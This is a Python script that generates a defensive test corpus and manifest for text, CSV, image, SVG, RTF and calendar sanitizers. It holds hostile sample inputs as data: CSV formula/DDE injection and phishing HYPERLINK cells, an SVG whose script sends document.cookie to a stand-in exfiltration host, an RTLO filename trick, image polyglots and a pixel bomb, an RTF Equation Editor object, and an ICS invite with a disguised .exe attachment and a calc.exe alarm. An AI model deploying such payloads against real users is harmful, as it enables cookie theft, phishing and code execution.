#!/usr/bin/env python3
"""Generates the inert samples for the text, CSV, image, SVG, RTF and calendar sanitizers.

Writes corpus/samples/formats/* and corpus/manifest/formats.toml. Standard library only, plus
`pdftoppm` (poppler-utils) to make a real JPEG: a one-page PDF is written here and rendered.
Nothing here is malware: "payloads" are strings such as calc.exe paths and example.invalid URLs.

Run from anywhere: python3 corpus/gen/formats.py
"""

import base64
import io
import os
import struct
import subprocess
import tempfile
import zipfile
import zlib

ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))  # corpus/
OUT = os.path.join(ROOT, "samples", "formats")
MANIFEST = os.path.join(ROOT, "manifest", "formats.toml")

entries = []


def write(name, data):
    path = os.path.join(OUT, name)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as f:
        f.write(data)
    return "samples/formats/" + name


def sample(name, data, **fields):
    fields = dict(file=write(name, data), mode="file", **fields)
    entries.append(fields)


# ---------------------------------------------------------------- text

KISHU = "①㈱髙橋商事 御中\r\n見積書を送付いたします。ご査収ください。\r\n金額: 12,000円（税込）\r\n"
sample(
    "sjis_kishu.txt",
    KISHU.encode("cp932"),
    expect="sanitized",
    output_kind="text",
    output_name="sjis_kishu.txt",
    must_contain=["①", "㈱", "髙橋商事", "見積書を送付いたします"],
    checks=["formats"],
    note="Shift_JIS (CP932) with 機種依存文字: NEC/IBM extensions must decode, not become U+FFFD",
)

EUC = "住民票の写しの交付申請について\n窓口は本庁舎一階です。受付時間は午前八時半から午後五時までです。\n"
sample(
    "eucjp.txt",
    EUC.encode("euc_jp"),
    expect="sanitized",
    output_kind="text",
    must_contain=["住民票の写しの交付申請", "本庁舎一階"],
    checks=["formats"],
    note="EUC-JP without a label: detected and converted to UTF-8",
)

sample(
    "utf16le_bom.txt",
    "\ufeff日本語のテキスト (UTF-16LE)\r\n二行目\r\n".encode("utf-16-le"),
    expect="sanitized",
    output_kind="text",
    must_contain=["日本語のテキスト", "二行目"],
    must_not_contain=["\u0000"],
    checks=["formats"],
    note="UTF-16LE with BOM: converted to UTF-8, no NUL bytes left",
)

sample(
    "rtlo.txt",
    "請求書は invoice\u202eexe.pdf を開いてください\u200b。\n".encode("utf-8"),
    expect="sanitized",
    threats=["text.bidi_control"],
    output_kind="text",
    must_contain=["invoiceexe.pdf"],
    must_not_contain=["\u202e", "\u200b"],
    checks=["formats"],
    note="RTLO and zero-width space hide the real text: stripped",
)

sample(
    "clean_utf8.txt",
    "お知らせ\r\n本日は休館日です。\r\n".encode("utf-8"),
    expect="clean",
    output_kind="text",
    output_name="clean_utf8.txt",
    must_contain=["本日は休館日です"],
    checks=["formats"],
    note="already clean UTF-8 with CRLF: kept byte for byte, verdict clean",
)

# ---------------------------------------------------------------- CSV

CSV = (
    "氏名,金額,備考\r\n"
    "髙橋,-1200,\"=HYPERLINK(\"\"http://phish.example.invalid/login\"\",\"\"詳細\"\")\"\r\n"
    "佐藤,+81,@SUM(1+1)*cmd|' /C calc'!A0\r\n"
    "鈴木,3000,+cmd|' /C notepad'!A0\r\n"
    "田中,-5,-2+3\r\n"
)
sample(
    "formulas.csv",
    CSV.encode("cp932"),
    expect="sanitized",
    threats=["csv.formula"],
    output_kind="csv",
    output_name="formulas.csv",
    must_contain=["'=HYPERLINK", "'@SUM", "'+cmd|", "'-2+3", ",-1200,", ",+81,", "髙橋"],
    checks=["formats"],
    note="CSV injection (HYPERLINK phishing, DDE): cells get a leading quote; numbers stay",
)

# ---------------------------------------------------------------- images


def png_chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(width, height, pixel, extra=b""):
    raw = b"".join(b"\x00" + pixel(y) for y in range(height))
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", ihdr)
        + extra
        + png_chunk(b"IDAT", zlib.compress(raw))
        + png_chunk(b"IEND", b"")
    )


def stripes(y):
    return b"".join(bytes([(x * 8) % 256, (y * 8) % 256, 160]) for x in range(32))


sample(
    "clean.png",
    png(32, 16, stripes),
    expect="clean",
    output_kind="image",
    output_name="clean.png",
    checks=["formats"],
    note="a plain PNG: re-encoded, still clean",
)

zbuf = io.BytesIO()
with zipfile.ZipFile(zbuf, "w") as z:
    z.writestr("secret.txt", "hidden payload after IEND (inert)\n")
polyglot = png(
    32,
    16,
    stripes,
    extra=png_chunk(b"tEXt", b"Author\x00Taro Yamada, tel 090-0000-0000")
    + png_chunk(b"tIME", bytes([7, 234, 11, 26, 1, 2, 3])),
) + zbuf.getvalue()
sample(
    "polyglot_text_zip.png",
    polyglot,
    expect="sanitized",
    threats=["image.metadata", "image.trailing_data"],
    output_kind="image",
    output_name="polyglot_text_zip.png",
    must_not_contain=["tEXt", "Taro Yamada", "PK\u0003\u0004", "secret.txt"],
    checks=["formats"],
    note="PNG with a text chunk and a ZIP after IEND (polyglot): only pixels survive",
)

bomb = (
    b"\x89PNG\r\n\x1a\n"
    + png_chunk(b"IHDR", struct.pack(">IIBBBBB", 100000, 100000, 8, 2, 0, 0, 0))
    + png_chunk(b"IDAT", zlib.compress(b"\x00" * 64))
    + png_chunk(b"IEND", b"")
)
sample(
    "pixel_bomb.png",
    bomb,
    expect="blocked",
    threats=["limit.pixels"],
    note="header claims 100000x100000 pixels: refused from the header, nothing allocated",
)

FRAME = b"\x21\xf9\x04\x00\x0a\x00\x00\x00" + b"\x2c\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02\x44\x01\x00"
GIF_HEAD = b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff"
NETSCAPE = b"\x21\xff\x0bNETSCAPE2.0\x03\x01\x00\x00\x00"
sample(
    "many_frames.gif",
    GIF_HEAD + NETSCAPE + FRAME * 1000 + b"\x3b",
    expect="blocked",
    threats=["limit.frames"],
    note="1000-frame animation: refused by the frame limit before any frame is decoded",
)
sample(
    "anim_comment.gif",
    GIF_HEAD + b"\x21\xfe\x0fsecret-comment!\x00" + NETSCAPE + FRAME * 3 + b"\x3b",
    expect="sanitized",
    threats=["image.metadata"],
    output_kind="image",
    output_name="anim_comment.png",
    must_not_contain=["secret-comment", "GIF8"],
    checks=["formats"],
    note="small animated GIF with a comment: first frame as PNG, comment gone",
)


def exif_block():
    """TIFF-structured EXIF: IFD0 with Orientation=6 and a GPS IFD (35.6895 N, 139.6917 E)."""
    entries0 = [
        (0x0112, 3, 1, struct.pack(">HH", 6, 0)),  # Orientation: rotate 90 CW
        (0x8825, 4, 1, None),  # GPS IFD pointer, filled below
    ]
    ifd0_off = 8
    gps_off = ifd0_off + 2 + 12 * len(entries0) + 4
    gps_entries = [
        (0x0001, 2, 2, b"N\x00\x00\x00"),  # GPSLatitudeRef
        (0x0002, 5, 3, None),  # GPSLatitude (rationals, stored after the IFD)
        (0x0003, 2, 2, b"E\x00\x00\x00"),
        (0x0004, 5, 3, None),
    ]
    data_off = gps_off + 2 + 12 * len(gps_entries) + 4
    lat = struct.pack(">IIIIII", 35, 1, 41, 1, 2222, 100)
    lon = struct.pack(">IIIIII", 139, 1, 41, 1, 3012, 100)
    out = b"MM\x00\x2a" + struct.pack(">I", ifd0_off)
    out += struct.pack(">H", len(entries0))
    for tag, typ, count, val in entries0:
        if val is None:
            val = struct.pack(">I", gps_off)
        out += struct.pack(">HHI", tag, typ, count) + val
    out += struct.pack(">I", 0)
    out += struct.pack(">H", len(gps_entries))
    offsets = [data_off, data_off + len(lat)]
    for tag, typ, count, val in gps_entries:
        if val is None:
            val = struct.pack(">I", offsets.pop(0))
        out += struct.pack(">HHI", tag, typ, count) + val
    out += struct.pack(">I", 0) + lat + lon
    return b"Exif\x00\x00" + out


def real_jpeg():
    """A 120x60 JPEG rendered by pdftoppm from a one-page PDF with two coloured boxes."""
    content = b"1 0 0 rg 0 0 60 60 re f 0 0 1 rg 60 0 60 60 re f"
    objs = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 120 60] /Contents 4 0 R >>",
        b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream",
    ]
    pdf = b"%PDF-1.4\n"
    offs = []
    for i, o in enumerate(objs, 1):
        offs.append(len(pdf))
        pdf += b"%d 0 obj\n" % i + o + b"\nendobj\n"
    xref = len(pdf)
    pdf += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objs) + 1)
    pdf += b"".join(b"%010d 00000 n \n" % o for o in offs)
    pdf += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objs) + 1, xref)
    with tempfile.TemporaryDirectory() as d:
        with open(os.path.join(d, "in.pdf"), "wb") as f:
            f.write(pdf)
        subprocess.run(
            ["pdftoppm", "-jpeg", "-r", "72", "-singlefile", "in.pdf", "out"],
            cwd=d,
            check=True,
        )
        with open(os.path.join(d, "out.jpg"), "rb") as f:
            return f.read()


jpeg = real_jpeg()
app1 = exif_block()
com = b"GPS taken at the mayor's home; secret-comment"
jpeg_exif = (
    jpeg[:2]
    + b"\xff\xe1" + struct.pack(">H", len(app1) + 2) + app1
    + b"\xff\xfe" + struct.pack(">H", len(com) + 2) + com
    + jpeg[2:]
)
sample(
    "exif_gps.jpg",
    jpeg_exif,
    expect="sanitized",
    threats=["image.metadata"],
    output_kind="image",
    output_name="exif_gps.jpg",
    must_not_contain=["Exif", "GPS", "secret-comment"],
    checks=["formats"],
    note="JPEG with EXIF (orientation 6, GPS position) and a comment: pixels only, rotated upright (60x120)",
)
sample(
    "polyglot_zip.jpg",
    jpeg + zbuf.getvalue(),
    expect="sanitized",
    threats=["image.trailing_data"],
    output_kind="image",
    must_not_contain=["PK\u0003\u0004", "secret.txt"],
    checks=["formats"],
    note="JPEG+ZIP polyglot: the ZIP after EOI is dropped",
)

# ---------------------------------------------------------------- SVG

SVG = """<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"
     width="120" height="60" onload="alert('svg')">
  <script type="text/javascript">fetch('https://exfil.example.invalid/?c=' + document.cookie)</script>
  <rect width="120" height="60" fill="#2060c0"/>
  <image xlink:href="file:///etc/passwd" width="10" height="10"/>
  <image href="https://tracker.example.invalid/pixel.png" width="1" height="1"/>
  <a href="javascript:alert(1)"><text x="10" y="40" font-size="24" fill="white">無害 SVG</text></a>
  <foreignObject width="120" height="60">
    <div xmlns="http://www.w3.org/1999/xhtml"><iframe src="https://evil.example.invalid/"/></div>
  </foreignObject>
</svg>
"""
sample(
    "hostile.svg",
    SVG.encode("utf-8"),
    expect="sanitized",
    threats=["svg.script", "svg.external_reference", "svg.foreign_object"],
    output_kind="image",
    output_name="hostile.png",
    must_not_contain=["<script", "foreignObject", "example.invalid", "<svg"],
    checks=["formats"],
    note="SVG with script, onload, external and file hrefs, foreignObject: rasterized to PNG",
)

# ---------------------------------------------------------------- RTF


def rtf_sjis(s):
    out = []
    for ch in s:
        b = ch.encode("cp932")
        out.append(ch if len(b) == 1 and b[0] < 0x80 else "".join("\\'%02x" % x for x in b))
    return "".join(out)


objdata = (b"\x01\x05\x00\x00\x02\x00\x00\x00\x0b\x00\x00\x00Equation.3\x00" + b"\x00" * 32).hex()
RTF = (
    "{\\rtf1\\ansi\\ansicpg932\\deff0{\\fonttbl{\\f0\\fnil\\fcharset128 MS Mincho;}}\n"
    "{\\*\\generator Msftedit 5.41;}\\f0 "
    + rtf_sjis("見積書")
    + "\\par\n"
    + rtf_sjis("①㈱髙橋商事 御中")
    + "\\par\n"
    "{\\object\\objemb{\\*\\objclass Equation.3}\\objw200\\objh200{\\*\\objdata "
    + objdata
    + "}{\\result{\\pict\\wmetafile8 0100090000}}}\\par\n"
    + rtf_sjis("以上、よろしくお願いいたします。")
    + "\\par}\n"
)
sample(
    "equation_object.rtf",
    RTF.encode("ascii"),
    expect="sanitized",
    threats=["rtf.object"],
    output_kind="text",
    output_name="equation_object.txt",
    must_contain=["見積書", "①㈱髙橋商事 御中", "よろしくお願いいたします"],
    must_not_contain=["Equation", "objdata", "0105000002", "\\rtf"],
    checks=["formats"],
    note="RTF with an Equation Editor object (CVE-2017-11882 style, inert): text only, Japanese via \\ansicpg932",
)

# ---------------------------------------------------------------- calendar

ICS = (
    "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//Example//Mugai corpus//JA\r\nMETHOD:REQUEST\r\n"
    "BEGIN:VEVENT\r\nUID:1@example.invalid\r\nSUMMARY:予算説明会\\, 第2回\r\n"
    "DTSTART;TZID=Asia/Tokyo:20261201T100000\r\nDTEND;TZID=Asia/Tokyo:20261201T113000\r\n"
    "LOCATION:本庁舎 3階 第1会議室\r\n"
    "ORGANIZER;CN=財政課:mailto:zaisei@city.example.invalid\r\n"
    "DESCRIPTION:資料は https://docs.example.invalid/budget で確認してください。\\n持ち物: 筆\r\n"
    " 記用具\r\n"
    "ATTACH;ENCODING=BASE64;VALUE=BINARY;FMTTYPE=application/x-msdownload;X-FILENAME=agenda.exe:"
    + base64.b64encode(b"MZ inert stand-in, not an executable").decode()
    + "\r\n"
    "URL:https://join.example.invalid/meeting\r\n"
    "BEGIN:VALARM\r\nACTION:PROCEDURE\r\nTRIGGER:-PT15M\r\n"
    "ATTACH:file:///C:/Windows/System32/calc.exe\r\nDESCRIPTION:alarm-procedure\r\nEND:VALARM\r\n"
    "END:VEVENT\r\nEND:VCALENDAR\r\n"
)
sample(
    "invite_attach_alarm.ics",
    ICS.encode("utf-8"),
    expect="sanitized",
    threats=["calendar.attachment", "calendar.alarm", "calendar.url"],
    output_kind="text",
    output_name="invite_attach_alarm.txt",
    must_contain=["予算説明会, 第2回", "2026-12-01 10:00 (Asia/Tokyo)", "本庁舎 3階 第1会議室", "筆記用具",
                  "hxxps://docs[.]example[.]invalid/budget"],
    must_not_contain=["TVog", "calc.exe", "alarm-procedure", "https://", "join.example"],
    checks=["formats"],
    note="invitation with a binary ATTACH, URL and a PROCEDURE alarm: text summary only",
)

# ---------------------------------------------------------------- manifest


def toml_value(v):
    if isinstance(v, list):
        return "[" + ", ".join(toml_value(x) for x in v) + "]"
    s = v.replace("\\", "\\\\").replace('"', '\\"')
    s = "".join(c if c.isprintable() else "\\u%04X" % ord(c) for c in s)
    s = "".join("\\u%04X" % ord(c) if c in "\u200b\u202e\ufeff" else c for c in s)
    return '"' + s + '"'


with open(MANIFEST, "w", encoding="utf-8") as f:
    f.write("# Generated by corpus/gen/formats.py: do not edit by hand.\n")
    f.write("# Text, CSV, raster images, SVG, RTF and calendar samples.\n")
    for e in entries:
        f.write("\n[[sample]]\n")
        for key in ["file", "mode", "expect", "threats", "output_kind", "output_name",
                    "must_not_contain", "must_contain", "checks", "note"]:
            if key in e:
                f.write("%s = %s\n" % (key, toml_value(e[key])))
print("wrote %d samples to %s" % (len(entries), OUT))
